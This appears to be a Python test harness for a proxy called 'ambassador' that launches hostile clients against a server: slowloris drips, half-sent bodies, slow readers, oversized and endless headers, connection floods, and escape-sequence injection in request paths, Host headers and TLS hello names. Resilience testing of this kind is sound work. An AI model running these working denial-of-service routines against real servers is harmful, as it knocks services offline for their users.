# SPDX-License-Identifier: Apache-2.0
"""Programs that misbehave, many connections at once: `python3 hostile.py ATTACK ADDRESS PORT COUNT`.

It knows nothing of ambassador. Each attack says `held` when it is at its height, goes on until stdin ends, and then says
what became of its connections: `COUNT of COUNT open`.
"""
import resource, select, socket, ssl, sys, time

def say(text):
    sys.stdout.write(text + "\n")
    sys.stdout.flush()

def released():
    """Whether stdin has ended."""
    return bool(select.select([sys.stdin], [], [], 0)[0])

def opened(address, count, first=b""):
    """`count` connections that have sent `first`."""
    connections = []
    for _ in range(count):
        s = socket.create_connection(address, 15)
        if first:
            s.sendall(first)
        s.setblocking(False)
        connections.append(s)
    return connections

def is_open(s):
    try:
        return bool(s.recv(65536))
    except BlockingIOError:
        return True
    except OSError:
        return False

def hold(connections, pace=0.05, tick=lambda: None):
    """Holds the attack until it is released, then says how many connections are still open."""
    say("held")
    while not released():
        tick()
        time.sleep(pace)
    say("%d of %d open" % (sum(map(is_open, connections)), len(connections)))

def slowloris(address, count):
    """Heads that never end, a byte at a time."""
    connections = opened(address, count, b"GET /slow HTTP/1.1\r\nHost: slow.example\r\n")
    line, at = b"X-Drip: abcdef\r\n", [0]
    def drip():
        byte = line[at[0] % len(line):][:1]
        at[0] += 1
        for s in connections:
            try:
                s.send(byte)
            except OSError:
                pass
    hold(connections, tick=drip)

def half_bodies(address, count):
    """Bodies of which the second half never comes."""
    head = b"POST /half HTTP/1.1\r\nHost: half.example\r\nContent-Length: 200000\r\n\r\n"
    hold(opened(address, count, head + b"h" * 100000))

def idle(address, count):
    """Half of the connections say nothing at all, half have had one answer and stay."""
    silent = opened(address, count // 2)
    kept = opened(address, count - count // 2, b"GET /idle HTTP/1.1\r\nHost: idle.example\r\n\r\n")
    for s in kept:
        s.settimeout(15)
        assert s.recv(65536).startswith(b"HTTP/1.1 2"), "no answer"
        s.setblocking(False)
    hold(silent + kept)

def trickle(connections, take):
    """Lets every connection that is ready take part, until all have ended or the attack is released."""
    say("held")
    total, left = 0, set(connections)
    while left and not released():
        ready = select.select(list(left), [], [], 0.05)[0]
        for s in ready:
            try:
                count = take(s)
            except BlockingIOError:
                continue
            except OSError:
                count = 0
            total += count
            if not count:
                left.discard(s)
    say("%d of %d open, %d bytes" % (len(left), len(connections), total))

GET = b"GET /hostile HTTP/1.1\r\nHost: hostile.example\r\n\r\n"

def swallow(address, count):
    """Takes replies as fast as they come."""
    trickle(opened(address, count, GET), lambda s: len(s.recv(1 << 18)))

def swallow_slowly(address, count):
    """Takes replies in pieces, with a rest between them."""
    buffer = bytearray(1 << 18)
    def take(s):
        time.sleep(0.0002)
        return s.recv_into(buffer)
    trickle(opened(address, count, GET), take)

def slow_readers(address, count):
    """Takes replies at a few KB per second and connection."""
    connections = opened(address, count, GET)
    def sip():
        for s in connections:
            try:
                s.recv(512)
            except OSError:
                pass
    hold(connections, tick=sip)

def poured(connections, data, bound, enough):
    """Sends `data` again and again on every connection, up to `bound` bytes each, until it is `enough`."""
    say("held")
    left = {s: bound for s in connections}
    while left and not enough():
        for s in select.select([], list(left), [], 0.05)[1]:
            try:
                left[s] -= s.send(data[(bound - left[s]) % len(data):])
            except BlockingIOError:
                continue
            except OSError:
                left[s] = 0
            if not left[s]:
                del left[s]

def statuses(connections):
    """The status lines that came back, each with how often, or how the connection ended without one."""
    seen = {}
    for s in connections:
        s.settimeout(3)
        try:
            line = s.makefile("rb").readline().decode().strip() or "end"
        except OSError as error:
            line = type(error).__name__
        seen[line] = seen.get(line, 0) + 1
    say(", ".join("%d x %s" % (count, line) for line, count in sorted(seen.items())))

START = b"GET /big HTTP/1.1\r\nHost: big.example\r\n"

def big_headers(address, count):
    """Heads of 1 MB, well-formed and complete."""
    line = b"X-Big: " + b"b" * 8000 + b"\r\n"
    ask_oddly(address, count, START + line * (1000000 // len(line)) + b"\r\n")

def many_headers(address, count):
    """Heads of many small lines."""
    ask_oddly(address, count, START + b"".join(b"X-%d: m\r\n" % n for n in range(1000)) + b"\r\n")

def long_targets(address, count):
    """A request line longer than anybody has ever needed."""
    ask_oddly(address, count, START.replace(b"/big", b"/" + b"u" * 20000) + b"\r\n")

def ask_oddly(address, count, request):
    connections = opened(address, count)
    poured(connections, request, len(request), lambda: False)
    statuses(connections)

def endless_heads(address, count):
    """Heads that go on for ever, as fast as they are taken."""
    connections = opened(address, count, START)
    poured(connections, b"X-Endless: " + b"e" * 50 + b"\r\n", 1 << 40, released)
    statuses(connections)

def names(address, count):
    """So many hosts, paths and methods, over a few connections; then so many of them at addresses of their own."""
    connections = [socket.create_connection(address, 15) for _ in range(4)]
    answered = 0
    for start in range(0, count, 50):
        s = connections[start // 50 % len(connections)]
        numbers = range(start, start + 50)
        s.sendall(b"".join(b"M%d /p/%d HTTP/1.1\r\nHost: h%d.example\r\n\r\n" % (n, n, n) for n in numbers))
        replies = s.makefile("rb")
        for _ in numbers:
            while replies.readline().strip():
                pass
            answered += 1
    for n in range(count // 8):
        with socket.create_connection(("10.78.%d.%d" % (n // 200, n % 200 + 1), address[1]), 15) as s:
            s.sendall(GET)
            answered += s.recv(65536).startswith(b"HTTP/1.1 200 ")
    say("held")
    say("%d answered" % answered)

def wander(address, count):
    """One request to each of so many addresses, one after the other."""
    say("held")
    answered = 0
    for n in range(count):
        try:
            with socket.create_connection(("10.78.%d.%d" % (n // 200, n % 200 + 1), address[1]), 15) as s:
                s.settimeout(15)
                s.sendall(GET)
                answered += s.recv(65536).startswith(b"HTTP/1.1 200 ")
        except OSError:
            pass
    say("%d answered" % answered)
    sys.stdin.read()

def controls(address, count):
    """Names that drive a terminal or forge a line, wherever a name is read."""
    with open("/proc/self/comm", "w") as comm:
        comm.write("\x1b[31m\nforged")
    unicode = "\u009b31m\u202e\u2028".encode()
    for raw in (
        b"GET /\x1b[2J\r\n",
        b"GET /\x1b[2J HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /a HTTP/1.1\r\nHost: \x1b[2J\r\n\r\n",
        b"GET\x1b[2J / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET /" + unicode + b" HTTP/1.1\r\nHost: a.example\r\n\r\n",
        b"GET /b HTTP/1.1\r\nHost: b" + unicode + b".example\r\n\r\n",
        b"GET /c\xff\x1b[2J HTTP/1.1\r\nHost: c.example\r\n\r\n",
        hello("sni.example", "h2"),
        hello("sni.example", "h2\x1b[2J\nalpn"),
        hello("sni.example", "h2").replace(b"sni.exa", b"\x1b[2J\r\n"),
    ):
        with socket.create_connection(address, 15) as s:
            s.sendall(raw)
            s.shutdown(socket.SHUT_WR)
            try:
                while s.recv(65536):
                    pass
            except OSError:
                pass
    say("held")

def hello(name, protocol):
    """A ClientHello."""
    context = ssl.create_default_context()
    context.set_alpn_protocols([protocol])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    try:
        context.wrap_bio(incoming, outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        return outgoing.read()

def crowd(address, count):
    """All connect at once, ask once, and stay."""
    ask_all(address, count, lambda s: None)

def queue(address, count):
    """All connect at once, ask once, and go."""
    ask_all(address, count, lambda s: s.close())

def ask_all(address, count, after):
    poll, waiting = select.poll(), {}
    for _ in range(count):
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(address)
        waiting[s.fileno()] = s
        poll.register(s, select.POLLOUT)
    say("held")
    answered, failed, kept = 0, 0, []
    while waiting and not released():
        for number, event in poll.poll(50):
            s = waiting[number]
            try:
                if event & select.POLLOUT:
                    s.send(GET)
                    poll.modify(s, select.POLLIN)
                    continue
                got = s.recv(65536)
            except OSError:
                got = b""
            answered += bool(got)
            failed += not got
            poll.unregister(s)
            kept.append(waiting.pop(number))
            after(s)
    say("%d answered, %d failed, %d wait" % (answered, failed, len(waiting)))
    sys.stdin.read()

ATTACKS = {
    attack.__name__: attack
    for attack in (
        slowloris, half_bodies, idle, swallow, swallow_slowly, slow_readers, big_headers, many_headers, long_targets,
        endless_heads, names, wander, controls, crowd, queue,
    )
}

attack, host, port, count = sys.argv[1:5]
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
ATTACKS[attack]((host, int(port)), int(count))
